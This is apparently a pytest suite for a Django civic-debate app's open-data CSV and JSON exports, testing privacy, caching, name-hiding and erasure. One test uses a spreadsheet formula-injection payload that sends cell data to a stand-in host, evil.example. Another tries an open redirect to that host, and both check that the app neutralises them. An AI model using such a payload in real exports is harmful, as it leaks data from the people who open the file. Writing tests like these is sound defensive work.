"""The open data exports: what the public pages show, streamed, with the licence; never a hidden or deleted comment,
an e-mail address or an IP.

- alice writes a public comment, bob one that moderation hid, carol one she deleted;
- fiona opens the debate and publishes a meeting's closing report with a poll."""

import csv
import io
import json

import pytest
from django.test import Client

from debates import services as debates
from live.moderation import services as moderation
from meetings import services as meetings
from tests.meetings.conftest import make_meeting

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(alice, bob, carol, fiona, mona):
    debate = debates.create_debate(author=fiona, title="Piétonniser la place ?", description="Qu'en pensez-vous ?")
    debates.post_comment(author=alice, debate=debate, body="PUBLIC avec des bancs", alignment=1)
    hidden = debates.post_comment(author=bob, debate=debate, body="HIDDEN insulte", alignment=-1)
    moderation.hide(actor=mona, kind="comment", object_id=hidden.pk, reason="Insulte")
    deleted = debates.post_comment(author=carol, debate=debate, body="DELETED regret", alignment=-1)
    debates.delete_comment(comment=deleted, actor=carol)
    meeting = make_meeting(fiona, premoderation=False)
    participant = meetings.join(meeting=meeting, user=alice, ip="198.51.100.9")
    meetings.post_contribution(participant=participant, body="Une question")
    poll = meetings.create_poll(actor=fiona, meeting=meeting, question="Une fontaine ?", choices=["Oui", "Non"])
    poll = meetings.open_poll(actor=fiona, poll=poll)
    meetings.answer_poll(participant=participant, poll=poll, choices=[poll.choices.get(label="Oui").pk])
    meetings.save_report(actor=fiona, meeting=meeting, minutes="Compte rendu : la fontaine est votée.",
                         attendees=42, publish=True)
    return {"debate": debate}


def get(url):
    response = Client(HTTP_ACCEPT_LANGUAGE="fr").get(url)
    assert response.status_code == 200, url
    assert response.streaming
    return response, b"".join(response.streaming_content).decode()


def test_no_hidden_or_deleted_comment_no_email_no_ip(world):
    for name in ["debates", "comments", "meetings"]:
        for fmt in ["csv", "json"]:
            _response, body = get(f"/opendata/{name}.{fmt}")
            assert body.strip(), (name, fmt)
            for secret in ["HIDDEN", "DELETED", "@example.org", "198.51.100.9"]:
                assert secret not in body, (name, fmt, secret)


def test_the_comments_are_those_the_page_shows_with_the_public_nickname(world):
    _response, body = get("/opendata/comments.csv")

    rows = list(csv.DictReader(io.StringIO(body)))
    assert [(row["author"], row["text"], row["stance"]) for row in rows] == [("alice", "PUBLIC avec des bancs", "Pour")]


def test_debates_carry_their_tallies_and_json_its_licence(world):
    response, body = get("/opendata/debates.json")

    data = json.loads(body)
    assert data["licence"] == "Licence Ouverte 2.0"
    assert 'rel="license"' in response["Link"]
    debate = data["items"][0]
    assert (debate["for"], debate["against"], debate["comments"]) == (1, 0, 1)


def test_meeting_reports_carry_counts_and_poll_results(world):
    _response, body = get("/opendata/meetings.json")

    meeting = json.loads(body)["items"][0]
    assert meeting["contributions"] == 1 and meeting["attendees"] == 42
    assert meeting["polls"] == [{"question": "Une fontaine ?", "results": [{"choice": "Oui", "answers": 1},
                                                                           {"choice": "Non", "answers": 0}]}]


def test_a_dataset_is_cached_until_something_changes(world, alice):
    response, _body = get("/opendata/comments.csv")
    # Kept by browsers and proxies, but asked again each time: what moderation hides is never served from their copy.
    assert "public" in response["Cache-Control"] and "no-cache" in response["Cache-Control"]
    assert "max-age" not in response["Cache-Control"]

    again = Client().get("/opendata/comments.csv", HTTP_IF_NONE_MATCH=response["ETag"])
    assert again.status_code == 304
    debates.post_comment(author=alice, debate=world["debate"], body="Un nouveau commentaire")
    assert Client().get("/opendata/comments.csv", HTTP_IF_NONE_MATCH=response["ETag"]).status_code == 200


def test_the_page_lists_the_datasets_and_the_licence(db):
    page = Client(HTTP_ACCEPT_LANGUAGE="fr").get("/opendata/").content.decode()

    for name in ["debates", "comments", "meetings"]:
        assert f'href="/opendata/{name}.csv"' in page and f'href="/opendata/{name}.json"' in page
    assert "Licence Ouverte 2.0" in page
    assert Client().get("/opendata/nothing.csv").status_code == 404


def rows_of(url):
    _response, body = get(url)
    return list(csv.DictReader(io.StringIO(body)))


def signed_in(user):
    client = Client(HTTP_ACCEPT_LANGUAGE="fr")
    client.force_login(user)
    return client


def test_alice_leaves_her_name_out_of_the_open_data_and_puts_it_back(world, alice, bob):
    debates.post_comment(author=bob, debate=world["debate"], body="BOB est d'accord", alignment=1)

    response = signed_in(alice).post("/opendata/my-name/", {"hide_name": "on"})

    assert response.status_code == 302
    authors = {row["text"]: row["author"] for row in rows_of("/opendata/comments.csv")}
    assert authors == {"PUBLIC avec des bancs": "", "BOB est d'accord": "bob"}
    page = Client(HTTP_ACCEPT_LANGUAGE="fr").get(world["debate"].get_absolute_url()).content.decode()
    assert "alice" in page  # the debate page still names her
    assert 'id="hide-name" name="hide_name" aria-describedby="name-preference-status" checked' in \
        signed_in(alice).get("/opendata/").content.decode()

    signed_in(alice).post("/opendata/my-name/", {})
    authors = {row["text"]: row["author"] for row in rows_of("/opendata/comments.csv")}
    assert authors["PUBLIC avec des bancs"] == "alice"


def test_a_debate_opener_who_left_their_name_out_is_not_named(world, fiona):
    from opendata.services import set_hide_name

    set_hide_name(user=fiona, hide=True)

    assert [row["opened_by"] for row in rows_of("/opendata/debates.csv")] == [""]


def test_a_visitor_cannot_choose_for_anyone(world):
    from opendata.models import NamePreference

    response = Client(HTTP_ACCEPT_LANGUAGE="en").post("/opendata/my-name/", {"hide_name": "on"})

    assert response.status_code == 403
    assert "Sign in to choose how your name appears in the open data." in response.content.decode()
    assert not NamePreference.objects.exists()


def test_the_choice_is_rate_limited(world, alice, settings):
    settings.RATE_LIMITS = {"default": "2/60"}
    client = signed_in(alice)

    codes = [client.post("/opendata/my-name/", {"hide_name": "on"}).status_code for _ in range(3)]

    assert codes == [302, 302, 429]


def test_a_second_download_is_replayed_from_the_server_cache(world, django_assert_max_num_queries):
    first, first_body = get("/opendata/comments.json")
    assert "Content-Length" not in first  # streamed from the database, recorded as it went

    with django_assert_max_num_queries(7):  # the key's aggregates; not one row read
        again, again_body = get("/opendata/comments.json")

    assert again_body == first_body
    assert int(again["Content-Length"]) == len(again_body.encode())


def test_a_hidden_comment_is_never_replayed_from_the_cache(world, alice, mona):
    from live.moderation import services as moderation

    comment = debates.post_comment(author=alice, debate=world["debate"], body="BIENTÔT masqué", alignment=1)
    assert "BIENTÔT masqué" in get("/opendata/comments.csv")[1]
    assert "BIENTÔT masqué" in get("/opendata/comments.csv")[1]  # now from the cache

    moderation.hide(actor=mona, kind="comment", object_id=comment.pk, reason="Hors sujet")

    assert "BIENTÔT masqué" not in get("/opendata/comments.csv")[1]
    moderation.unhide(actor=mona, kind="comment", object_id=comment.pk)
    assert "BIENTÔT masqué" in get("/opendata/comments.csv")[1]


def test_an_erased_author_is_never_replayed_from_the_cache(world, alice):
    from live.accounts.services import erase_account
    from tests.helpers import PASSWORD

    get("/opendata/comments.csv"), get("/opendata/comments.csv")

    erase_account(user=alice, password=PASSWORD)

    assert "PUBLIC avec des bancs" not in get("/opendata/comments.csv")[1]


def test_a_download_cut_short_is_not_replayed(db, monkeypatch):
    from opendata import cache

    monkeypatch.setattr(cache, "PART", 10)  # several parts
    chunks = [f"ligne {n}\n".encode() for n in range(20)]

    body, size = cache.stream("test.csv:key", lambda: iter(chunks))
    assert size is None
    next(body), next(body)
    body.close()  # the client went away after two lines

    body, size = cache.stream("test.csv:key", lambda: iter(chunks))
    assert size is None  # nothing was kept: recorded again, this time to the end
    assert b"".join(body) == b"".join(chunks)
    body, size = cache.stream("test.csv:key", lambda: iter(()))
    assert (b"".join(body), size) == (b"".join(chunks), len(b"".join(chunks)))  # replayed


def test_a_part_evicted_during_a_replay_cuts_it_and_is_recorded_again(db, monkeypatch):
    from django.core.cache import cache as django_cache

    from opendata import cache

    monkeypatch.setattr(cache, "PART", 10)
    chunks = [f"ligne {n}\n".encode() for n in range(20)]
    b"".join(cache.stream("test.csv:key", lambda: iter(chunks))[0])
    django_cache.delete("opendata:test.csv:key:3")

    body, size = cache.stream("test.csv:key", lambda: iter(chunks))
    assert size == len(b"".join(chunks))  # announced: a client sees the response cut short
    with pytest.raises(cache.PartMissing):
        b"".join(body)
    assert cache.stream("test.csv:key", lambda: iter(chunks))[1] is None  # from the database again


def test_with_the_cache_down_the_data_still_streams(world, monkeypatch):
    from django.core.cache import cache as django_cache

    def broken(*args, **kwargs):
        raise ConnectionError("cache down")

    for name in ("get", "add", "set", "delete_many"):
        monkeypatch.setattr(django_cache, name, broken)

    _response, body = get("/opendata/comments.csv")

    assert "PUBLIC avec des bancs" in body


def test_the_choice_answers_htmx_in_its_status_slot_and_never_redirects_away(world, alice):
    client = signed_in(alice)

    response = client.post("/opendata/my-name/", {"hide_name": "on"}, HTTP_HX_REQUEST="true")

    assert response.status_code == 200
    assert response["HX-Retarget"] == "#name-preference-status"
    assert "Votre pseudonyme ne figure plus dans les données ouvertes." in response.content.decode()
    away = client.post("/opendata/my-name/", {"next": "https://evil.example/"})
    assert away.status_code == 302 and away["Location"] == "/opendata/"
    back = client.post("/opendata/my-name/", {"next": "/privacy/my-data/"})
    assert back["Location"] == "/privacy/my-data/"


# --- nothing taken out is ever served from before it (the ETag, also the server cache's key) ------------------------

def stale(url, etag) -> bool:
    """Whether a browser or proxy holding `etag` is told its copy is still good."""
    return Client(HTTP_ACCEPT_LANGUAGE="fr").get(url, HTTP_IF_NONE_MATCH=etag).status_code == 304


def test_a_comment_an_administrator_removed_is_never_served_from_before_it(world, alice, admin_user):
    older = debates.post_comment(author=alice, debate=world["debate"], body="RETIRÉ par l'administration")
    debates.post_comment(author=alice, debate=world["debate"], body="Un commentaire plus récent")
    response, body = get("/opendata/comments.csv")
    assert "RETIRÉ" in body and "RETIRÉ" in get("/opendata/comments.csv")[1]  # now from the cache

    debates.remove_comment(comment=older, actor=admin_user)  # not the newest: the newest pk and date stay

    assert "RETIRÉ" not in get("/opendata/comments.csv")[1]
    assert not stale("/opendata/comments.csv", response["ETag"])


def test_a_deleted_debate_is_never_served_from_before_it(world, fiona):
    from debates.models import Debate

    gone = debates.create_debate(author=fiona, title="SUPPRIMÉ par l'administration", description="Sans commentaire")
    debates.create_debate(author=fiona, title="Un débat plus récent", description="Sans commentaire non plus")
    response, body = get("/opendata/debates.csv")
    assert "SUPPRIMÉ" in body and "SUPPRIMÉ" in get("/opendata/debates.csv")[1]

    Debate.objects.filter(pk=gone.pk).delete()  # the admin's delete

    assert "SUPPRIMÉ" not in get("/opendata/debates.csv")[1]
    assert not stale("/opendata/debates.csv", response["ETag"])


@pytest.fixture
def two_reports(world, fiona):
    """The world's report, and a second one published after it."""
    from meetings.models import Meeting

    first = Meeting.objects.get(report_published_at__isnull=False)
    second = make_meeting(fiona, premoderation=False, title="Une autre réunion")
    meetings.save_report(actor=fiona, meeting=second, minutes="Compte rendu de la seconde réunion.", attendees=7,
                         publish=True)
    return first, second


def test_an_unpublished_report_is_never_served_from_before_it(two_reports, fiona):
    first, _second = two_reports
    response, body = get("/opendata/meetings.json")
    assert "la fontaine est votée" in body and "la fontaine est votée" in get("/opendata/meetings.json")[1]

    meetings.save_report(actor=fiona, meeting=first, minutes="Compte rendu : la fontaine est votée.", attendees=42,
                         publish=False)

    assert "la fontaine est votée" not in get("/opendata/meetings.json")[1]
    assert not stale("/opendata/meetings.json", response["ETag"])


def test_edited_minutes_are_never_served_from_before_them(two_reports, fiona):
    first, _second = two_reports
    response, _body = get("/opendata/meetings.json")
    get("/opendata/meetings.json")

    meetings.save_report(actor=fiona, meeting=first, minutes="Compte rendu corrigé : la fontaine est reportée.",
                         attendees=40, publish=True)

    meeting = next(m for m in json.loads(get("/opendata/meetings.json")[1])["items"] if m["id"] == first.pk)
    assert (meeting["minutes"], meeting["attendees"]) == ("Compte rendu corrigé : la fontaine est reportée.", 40)
    assert not stale("/opendata/meetings.json", response["ETag"])


def test_a_contribution_hidden_after_the_report_is_no_longer_counted(world, mona):
    from meetings.models import Contribution

    response, body = get("/opendata/meetings.json")
    assert json.loads(body)["items"][0]["contributions"] == 1
    get("/opendata/meetings.json")

    moderation.hide(actor=mona, kind="contribution", object_id=Contribution.objects.get().pk, reason="Hors sujet")

    assert json.loads(get("/opendata/meetings.json")[1])["items"][0]["contributions"] == 0
    assert not stale("/opendata/meetings.json", response["ETag"])


# --- "leave my nickname out": their @mentions in what others wrote too ---------------------------------------------

def test_a_mention_of_someone_who_left_their_name_out_is_not_published(world, alice, bob, fiona):
    from django.utils import translation

    from opendata.selectors import NAME_LEFT_OUT
    from opendata.services import set_hide_name

    with translation.override("fr"):
        left_out = str(NAME_LEFT_OUT)  # "[pseudonyme non publié]" once translated

    debates.post_comment(author=bob, debate=world["debate"], body="d'accord avec @alice, et avec @Fiona.")
    debates.close_debate(debate=world["debate"], actor=fiona, conclusions="Merci à @alice pour les bancs.")
    meeting = make_meeting(fiona, premoderation=False, title="Réunion de clôture")
    meetings.save_report(actor=fiona, meeting=meeting, minutes="@alice présente les bancs.", attendees=3,
                         publish=True)
    assert "@alice" in get("/opendata/comments.csv")[1]  # cached with her name, before her choice

    set_hide_name(user=alice, hide=True)

    texts = [row["text"] for row in rows_of("/opendata/comments.csv")]
    assert f"d'accord avec {left_out}, et avec @Fiona." in texts  # fiona did not choose so
    assert [row["conclusions"] for row in rows_of("/opendata/debates.csv")] == [f"Merci à {left_out} pour les bancs."]
    minutes = [m["minutes"] for m in json.loads(get("/opendata/meetings.json")[1])["items"]]
    assert f"{left_out} présente les bancs." in minutes
    for name in ["debates", "comments", "meetings"]:
        for fmt in ["csv", "json"]:
            assert "@alice" not in get(f"/opendata/{name}.{fmt}")[1].lower(), (name, fmt)
    english = Client(HTTP_ACCEPT_LANGUAGE="en").get("/opendata/comments.csv")
    assert "d'accord avec [name left out], et avec @Fiona." in b"".join(english.streaming_content).decode()


def test_an_erased_persons_name_is_published_nowhere_titles_places_and_polls_included(world, alice, fiona):
    """Her @mentions in what others wrote become the erased name at her erasure (docs/accounts.md): in a debate's
    title, a meeting's title and place and a poll's question and choices too, all of which the datasets publish."""
    from live.accounts.services import erase_account
    from tests.helpers import PASSWORD

    debates.create_debate(author=fiona, title="L'idée de @alice", description="Des bancs ?")
    meeting = make_meeting(fiona, premoderation=False, title="Atelier de @alice", place="Chez @alice, rue Haute")
    poll = meetings.create_poll(actor=fiona, meeting=meeting, question="@alice a-t-elle raison ?",
                                choices=["Oui, @alice", "Non"])
    meetings.open_poll(actor=fiona, poll=poll)
    meetings.save_report(actor=fiona, meeting=meeting, minutes="Merci.", attendees=3, publish=True)
    assert "@alice" in get("/opendata/debates.json")[1] and "@alice" in get("/opendata/meetings.json")[1]

    erase_account(user=alice, password=PASSWORD)

    for name in ["debates", "comments", "meetings"]:
        for fmt in ["csv", "json"]:
            assert "alice" not in get(f"/opendata/{name}.{fmt}")[1].lower(), (name, fmt)


def test_nothing_in_a_row_tells_apart_two_people_who_left_their_name_out(world, alice, bob):
    """No account id and no pseudonym: a left-out person's comments cannot be linked to one another (docs/privacy.md).
    A new column that identifies people fails here until the doc says why."""
    from opendata.services import set_hide_name

    set_hide_name(user=alice, hide=True), set_hide_name(user=bob, hide=True)
    debates.post_comment(author=bob, debate=world["debate"], body="BOB second")

    rows = rows_of("/opendata/comments.csv")

    assert list(rows[0]) == ["id", "debate_id", "parent_id", "created_at", "author", "stance", "score", "text"]
    assert {row["author"] for row in rows} == {""}
    debate_row = json.loads(get("/opendata/debates.json")[1])["items"][0]
    assert "author_id" not in debate_row and "user_id" not in debate_row


def test_a_comment_a_spreadsheet_would_run_as_a_formula_is_published_as_text_in_the_csv(world, alice):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
    debates.post_comment(author=alice, debate=world["debate"], body=formula)
    debates.post_comment(author=alice, debate=world["debate"], body="+33 1 23 45 67 89 pour en parler")

    _response, body = get("/opendata/comments.csv")
    texts = [row["text"] for row in csv.DictReader(io.StringIO(body))]
    assert "'" + formula in texts and "'+33 1 23 45 67 89 pour en parler" in texts
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
    _response, body = get("/opendata/comments.json")
    assert formula in [item["text"] for item in json.loads(body)["items"]]  # JSON: the text as written
